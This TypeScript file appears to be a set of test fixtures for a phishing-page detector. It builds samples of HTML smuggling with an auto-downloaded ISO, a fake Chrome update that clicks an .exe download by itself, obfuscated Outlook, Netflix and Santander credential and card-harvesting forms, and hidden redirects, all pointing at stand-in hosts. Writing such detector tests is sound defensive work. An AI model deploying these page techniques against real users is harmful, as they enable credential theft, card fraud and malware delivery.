import { base64, field, noise, page, type Samples, site } from '../../sample.ts';

const ISO = (() => {
  const image = new Uint8Array(36_000);
  image.set(noise(2_000), 40_00);
  image.set(Buffer.from('\u0001CD001\u0001'), 32_768);
  return base64(image);
})();

const half = ISO.length / 2 - ((ISO.length / 2) % 4);

const SMUGGLING = `<h2>Adobe Acrobat is loading your file…</h2><script>window.addEventListener('DOMContentLoaded',()=>{const p=["${ISO.slice(0, half)}","${ISO.slice(half)}"].join('');
const b=Uint8Array.from(atob(p),c=>c.charCodeAt(0));const l=document.createElement('a');l.href=URL.createObjectURL(new Blob([b],{type:'application/x-iso9660-image'}));l.download='Report_Q3.iso';document.body.append(l);l.click()})</script>`;

const UPDATE = `<div class="center"><img src="chrome.png" alt="Google Chrome"><h1>Update Google Chrome</h1><p>You are using an older version of Chrome. Update now to keep your browser running smoothly and securely.</p><a id="up" href="files/ChromeUpdate.exe" download>Update Chrome</a></div>
<script>window.onload=function(){setTimeout(function(){document.getElementById('up').click()},600)}</script>`;

const login = (action: string) =>
  `<form action="${action}" method="post">${field('Email', 'name="login"')}${field('Password', 'type="password" name="pass"')}<button>Log in</button></form>`;

const MICROSOFT = page('Sign in to Outlook', `<h1>Outlook</h1>${login('https://mail-reauth.example/x')}`);
const codes = [...MICROSOFT].map((c) => c.charCodeAt(0) + 3).join(',');

const key = 'k3y';
const xored = base64(Uint8Array.from(Buffer.from(MICROSOFT), (byte, i) => byte ^ key.charCodeAt(i % key.length)));

export const LOADERS: Samples = {
  'HTML smuggling of an image in two parts': site('Report', SMUGGLING),
  'an update of Chrome that starts by itself': {
    ...site('Chrome update', UPDATE),
    'files/ChromeUpdate.exe': new Uint8Array([0x4d, 0x5a, ...noise(400)]),
  },
  'a page by codes of characters': {
    'index.html': `<script>var s='';[${codes}].forEach(function(v){s+=String.fromCharCode(v-3)});document.write(s)</script>`,
  },
  'a page behind a key': {
    'index.html': `<html><head><script>(function(k,d){var b=atob(d),o='';for(var i=0;i<b.length;i++)o+=String.fromCharCode(b.charCodeAt(i)^k.charCodeAt(i%k.length));document.documentElement.innerHTML=o;document.close()})('${key}','${xored}')</script></head></html>`,
  },
  'Netflix with characters of no width': site(
    'Net\u200bflix',
    `<h1>N\u200betf\u200blix</h1><p>Update your payment method</p><form action="https://renew-plan.example/pay">${field('Card number', 'name="cc"')}${field('CVV', 'name="cvv"')}${field('Expiration date', 'name="exp"')}</form>`,
  ),
  'a redirect to a name in Cyrillic': {
    'index.html':
      '<html><head><title>Redirecting</title><meta http-equiv="refresh" content="0; url=https://xn--pypl-53dc.example/signin"></head></html>',
  },
  'DocuSign that goes elsewhere with the address': site(
    'DocuSign - Loading document',
    `<img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/ds-logo-default.svg" alt="DocuSign"><p>Checking your browser…</p><script>setTimeout(function(){window.location.replace(atob("aHR0cHM6Ly9yZXZpZXctc2lnbi5leGFtcGxlL2xvZ2luP2U9")+window.location.hash.substring(1))},1200)</script>`,
  ),
  'Outlook in a frame from elsewhere': site(
    'Outlook Web App',
    '<style>*{margin:0}iframe{position:fixed;inset:0;width:100vw;height:100vh;border:0}</style><iframe src="https://owa-session.example/auth/logon.html"></iframe>',
  ),
  'a file of a bank in a folder of names': {
    'index.html': page('Sign in', '<script>location="secure/santander/login.html"</script>'),
    'secure/santander/login.html': page(
      'Banca Online',
      `<img src="logo-santander.png"><h1>Accede a tu banca online</h1>${login('https://acceso-clientes.example/s')}`,
      { lang: 'es' },
    ),
  },
};
